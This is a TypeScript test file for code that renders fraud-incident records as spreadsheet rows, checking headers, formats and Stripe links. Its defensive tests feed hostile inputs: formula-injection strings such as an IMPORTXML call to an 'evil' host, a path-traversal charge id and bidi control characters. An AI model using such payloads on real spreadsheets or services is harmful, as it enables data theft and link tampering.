import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Incident } from '../../../src/model/incident.ts';
import { COLUMNS, rowOf } from '../../../src/sinks/rows.ts';
import { cellData, EMPTY, shownCell, TEXT_MAX } from '../../../src/sinks/rows-cells.ts';
import { acknowledgedBy, resolvedBy, sampleIncident } from '../../support/sample-incident.ts';

const context = { consoleUrl: 'http://127.0.0.1:4243' };
/** As a reader sees it, by header; the analysts' columns are not there. */
function shown(incident: Incident): Record<string, string> {
  const row = rowOf(incident, context);
  return Object.fromEntries(
    COLUMNS.filter(({ id }) => row.has(id)).map(({ id, header }) => [header, shownCell(row.get(id) ?? EMPTY, 'UTC')]),
  );
}
const dataOf = (incident: Incident, id: string) => cellData(rowOf(incident, context).get(id) ?? EMPTY, 'UTC');

describe('a row', () => {
  it('tells an incident', () => {
    expect(shown(sampleIncident())).toEqual({
      Incident: 'INC-1',
      Status: 'open',
      Severity: 'CRITICAL',
      Opened: '2026-10-01 12:00:00',
      Title: 'Declines on one card',
      On: 'visa •••• 4242',
      Peak: '14',
      Threshold: '8',
      Window: '10 min',
      Attempts: '14',
      Amount: '1,234.50 EUR',
      'Further amounts': '5,000 JPY in 2',
      Outcomes: '14 declined',
      Reasons: '9 × card reported stolen, 5 × wrong CVC',
      Distinct: '3 customers, 2 e-mail addresses',
      'First attempt': '2026-10-01 11:55:00',
      'Last attempt': '2026-10-01 11:59:55',
      'Newest attempt': 'ch_3Newest',
      Marks: '',
      'Acknowledged by': '',
      'Acknowledged at': '',
      Resolution: '',
      'Resolved by': '',
      'Resolved at': '',
      'Assigned to': '',
      'Log of notes': '',
      Detector: 'card-declines',
      'Settings version': '1',
      Account: '',
      Updated: '2026-10-01 12:00:00',
      Version: '1',
    });
  });

  it('tells who acknowledged and how it was resolved', () => {
    expect(shown(acknowledgedBy(sampleIncident()))).toMatchObject({
      Status: 'acknowledged',
      'Acknowledged by': 'ana',
      'Acknowledged at': '2026-10-01 12:03:00',
    });
    expect(shown(resolvedBy(sampleIncident()))).toMatchObject({
      Status: 'resolved',
      Resolution: 'fraud',
      'Log of notes': 'Card blocked with the issuer.',
    });
  });

  it.each([
    [{ livemode: false }, 'TEST'],
    [{ mode: 'shadow' }, 'shadow'],
    [{ late: true, over: true }, 'late, over'],
    [{ status: 'merged', mergedInto: 'INC-3' }, 'merged into INC-3'],
    [{ status: 'withdrawn' }, 'withdrawn'],
    [{ exact: false, continues: 'INC-2' }, 'at least, continues INC-2'],
    [{ splitFrom: 'INC-4', storm: 'INC-5', mutedUntil: 1 }, 'split from INC-4, storm INC-5, muted'],
    [{ kind: 'operator' }, 'operator'],
  ] as const)('marks %j', (overrides, marks) => {
    expect(shown(sampleIncident(overrides)).Marks).toBe(marks);
  });

  it('gives ratios, sums and money their unit and digits', () => {
    const ratio = sampleIncident({ count: 'ratio', peak: 0.425, threshold: 0.4 });
    expect(dataOf(ratio, 'peak')).toEqual({
      userEnteredValue: { numberValue: 0.425 },
      userEnteredFormat: { numberFormat: { type: 'NUMBER', pattern: '0.00%' } },
    });
    expect(shown(ratio)).toMatchObject({ Peak: '42.5 %', Threshold: '40 %' });
    const sum = sampleIncident({ count: 'sum(amount)', currency: 'kwd', peak: 1_234_567 });
    expect(dataOf(sum, 'peak')).toMatchObject({
      userEnteredValue: { numberValue: 1234.567 },
      userEnteredFormat: { numberFormat: { pattern: '#,##0.000 "KWD"' } },
    });
    const amounts = (currency: string, amount: number) =>
      sampleIncident({ evidence: { ...sampleIncident().evidence, amounts: [{ currency, amount, count: 1 }] } });
    expect(dataOf(amounts('jpy', 5_000), 'amount')).toMatchObject({
      userEnteredValue: { numberValue: 5_000 },
      userEnteredFormat: { numberFormat: { pattern: '#,##0 "JPY"' } },
    });
    expect(dataOf(amounts('isk', 5_000), 'amount')).toMatchObject({
      userEnteredValue: { numberValue: 50 },
      userEnteredFormat: { numberFormat: { pattern: '#,##0 "ISK"' } },
    });
    expect(dataOf(amounts('"x', 5_000), 'amount')).toMatchObject({
      userEnteredFormat: { numberFormat: { pattern: '#,##0 "minor units"' } },
    });
  });

  it('links to the console and to Stripe, by ids of Stripe’s own form only', () => {
    const link = (incident: Incident, id: string) => dataOf(incident, id).userEnteredFormat?.textFormat?.link.uri;
    expect(link(sampleIncident(), 'incident')).toBe('http://127.0.0.1:4243/incidents/INC-1');
    expect(link(sampleIncident({ livemode: false, account: 'acct_1A' }), 'newest_attempt')).toBe(
      'https://dashboard.stripe.com/acct_1A/test/payments/ch_3Newest',
    );
    const evil = {
      ...sampleIncident().evidence,
      newest: [{ ...(sampleIncident().evidence.newest[0] ?? never()), id: 'ch_x/../../evil', intent: null }],
    };
    expect(link(sampleIncident({ evidence: evil }), 'newest_attempt')).toBeUndefined();
    expect(link(sampleIncident({ entity: { kind: 'customer', value: 'cus_1', label: '' } }), 'on')).toBe(
      'https://dashboard.stripe.com/customers/cus_1',
    );
  });

  it('holds no formula, no control character, no long text, whatever comes from outside', () => {
    const hostile = fc.oneof(
      fc.constantFrom(
        '=IMPORTXML("https://evil",A1)',
        '+1',
        '-1',
        '@SUM(A1)',
        '\t=1',
        "'=1",
        '\u202eevil',
        '=HYPERLINK("x")',
      ),
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.string({ maxLength: 5 }).map((seed) => `=${seed}`.repeat(20_000)),
    );
    fc.assert(
      fc.property(hostile, hostile, (a, b) => {
        const evidence = { ...sampleIncident().evidence, codes: [{ code: a, count: 1 }], outcomes: { [b]: 1 } };
        const entity = { kind: 'email', value: a, label: b } as const;
        const incident = resolvedBy(
          sampleIncident({ title: a, entity, evidence, owner: b, account: a, detector: b }),
          {},
        );
        for (const cell of rowOf(incident, context).values()) {
          const { userEnteredValue: value } = cellData(cell, 'UTC');
          expect(Object.keys(value ?? {})).not.toContain('formulaValue');
          if (value === undefined || !('stringValue' in value)) continue;
          expect(value.stringValue.length).toBeLessThanOrEqual(TEXT_MAX);
          expect(value.stringValue).not.toMatch(/[\p{Cc}\p{Cf}]/u);
        }
      }),
      { numRuns: 60 },
    );
  });

  it('never holds a cell of the analysts', () => {
    const own = COLUMNS.filter(({ cell }) => cell === null).map(({ id }) => id);
    expect(own).toEqual(['verdict', 'owner', 'notes']);
    const row = rowOf(resolvedBy(sampleIncident({ owner: 'bo' })), context);
    expect(own.filter((id) => row.has(id))).toEqual([]);
  });

  it('gives every column its own number, for ever', () => {
    expect(COLUMNS.map(({ number, id }) => `${number} ${id}`)).toEqual(
      'incident status verdict owner notes severity opened title on peak threshold window attempts amount further_amounts outcomes reasons distinct first_attempt last_attempt newest_attempt marks acknowledged_by acknowledged_at resolution resolved_by resolved_at assigned_to log_of_notes detector settings_version account updated version'
        .split(' ')
        .map((id, n) => `${n + 1} ${id}`),
    );
  });
});

function never(): never {
  throw new Error('the sample has a newest attempt');
}
